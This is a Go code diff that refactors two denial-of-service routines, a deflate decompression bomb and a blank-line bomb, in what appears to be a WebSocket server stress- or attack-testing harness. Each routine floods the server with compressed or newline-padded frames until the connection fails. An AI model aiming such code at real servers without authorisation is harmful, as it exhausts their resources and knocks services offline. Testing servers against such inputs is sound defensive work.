@@ -24,22 +24,15 @@ var bomb = sync.OnceValue(func() []byte {
 })
 
 func deflateBomb(a *attacker) {
-	a.each(func(i int) {
-		a.again(func() error {
-			c, compressed, err := a.upgrade(i, true)
-			if err != nil {
-				return err
-			}
-			defer c.drop()
-			if !compressed {
-				a.skipped("the server does not take permessage-deflate")
-				return errOver
-			}
-			if _, err := c.Write(bomb()); err != nil {
-				return err
-			}
-			return c.stalled()
-		})
+	a.connecting(a.openCompressed, func(_ int, c *conn) error {
+		if !c.compressed {
+			a.skipped("the server does not take permessage-deflate")
+			return errOver
+		}
+		if _, err := c.Write(bomb()); err != nil {
+			return err
+		}
+		return c.stalled()
 	})
 }
 
@@ -48,22 +41,16 @@ func blankLineBomb(a *attacker) {
 	message := func(n int) []byte { return slices.Concat([]byte("{}\n"), bytes.Repeat([]byte{'\n'}, n), []byte("{}")) }
 	packed := ws.AppendRaw(nil, ws.FIN|ws.RSV1|ws.Text, ws.AppendDeflated(nil, message(inflated)))
 	open := ws.AppendRaw(nil, ws.FIN|ws.Text, message(plain))
-	a.each(func(i int) {
-		a.again(func() error {
-			c, compressed, err := a.upgrade(i, true)
-			if err != nil {
-				return err
-			}
-			defer c.drop()
-			c.drain()
-			frame := open
-			if compressed {
-				frame = packed
-			}
-			for err == nil {
-				_, err = c.Write(frame)
-			}
-			return err
-		})
+	a.connecting(a.openCompressed, func(_ int, c *conn) error {
+		c.drain()
+		frame := open
+		if c.compressed {
+			frame = packed
+		}
+		_, err := c.Write(frame)
+		for err == nil {
+			_, err = c.Write(frame)
+		}
+		return err
 	})
 }
